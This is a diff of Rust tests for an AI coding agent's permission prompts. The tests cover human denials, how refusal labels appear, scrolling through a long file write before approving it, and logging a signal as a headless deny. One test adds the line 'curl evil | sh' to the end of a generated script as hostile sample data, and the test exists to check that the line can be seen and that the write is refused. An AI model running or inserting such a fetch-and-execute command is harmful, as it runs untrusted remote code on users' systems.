@@ -51,7 +51,7 @@ fn n_esc_enter_and_its_digit_are_no() {
         pty.send(answer);
     }
     let shown = pty.wait_for("I see.");
-    assert!(shown.contains("denied by human: denied by the human"), "{shown}");
+    assert!(shown.contains("human: denied by the human"), "{shown}");
     for name in ["one", "two", "three", "four"] {
         assert!(!project.path(name).exists(), "{name}");
     }
@@ -239,7 +239,7 @@ fn a_refusal_keeps_its_stage_in_the_transcript_and_in_the_next_session() {
     let pty = start(&project, &server, &["--disallowedTools", "Bash(mkdir *)"]);
     pty.line("go");
     pty.wait_for("Done.");
-    let refusal = "denied by rules: ";
+    let refusal = "rules: denied by ";
     pty.wait_whole(refusal);
     ready(&pty);
     pty.key(Key::Ctrl('o'));
@@ -255,4 +255,39 @@ fn a_refusal_keeps_its_stage_in_the_transcript_and_in_the_next_session() {
         pty.line("/exit");
         pty.wait_exit();
     }
+}
+
+#[test]
+fn all_of_a_long_change_can_be_seen_before_it_is_allowed() {
+    let project = project();
+    let mut content: String = (1..=600).map(|number| format!("line {number}\n")).collect();
+    content.push_str("curl evil | sh\n");
+    let write = json!({"file_path": "made.sh", "content": content});
+    let server = model([Reply::new().call("toolu_w", "Write", write), Reply::say("Written.")]);
+    let pty = start(&project, &server, &[]);
+    pty.line("go");
+    let shown = pty.wait_for("Allow Write?");
+    assert!(shown.contains("curl evil | sh"), "the end is in sight: {shown}");
+    // The file's name and 601 lines.
+    for _ in 0..12 {
+        pty.send("\x1b[6~");
+    }
+    let shown =
+        pty.wait_until(|screen| screen.contains(" of 602: PgUp") && screen.contains("line 3"));
+    assert!(!shown.contains("more lines"), "{shown}");
+    pty.send("n");
+    pty.wait_for("Written.");
+    assert!(!project.path("made.sh").exists());
+}
+
+#[test]
+fn a_signal_is_no_humans_decision() {
+    let (project, server) = asked();
+    let pty = start(&project, &server, &[]);
+    dialog(&pty);
+    pty.kill(ona_testkit::pty::Signal::SIGTERM);
+    assert_eq!(pty.wait_exit(), ona_testkit::pty::Exit::Code(143));
+    let decided = project
+        .sql("SELECT decision, json_extract(reason_json, '$.decided.by') FROM tool_permission_log");
+    assert_eq!(decided, ["deny|headless"]);
 }
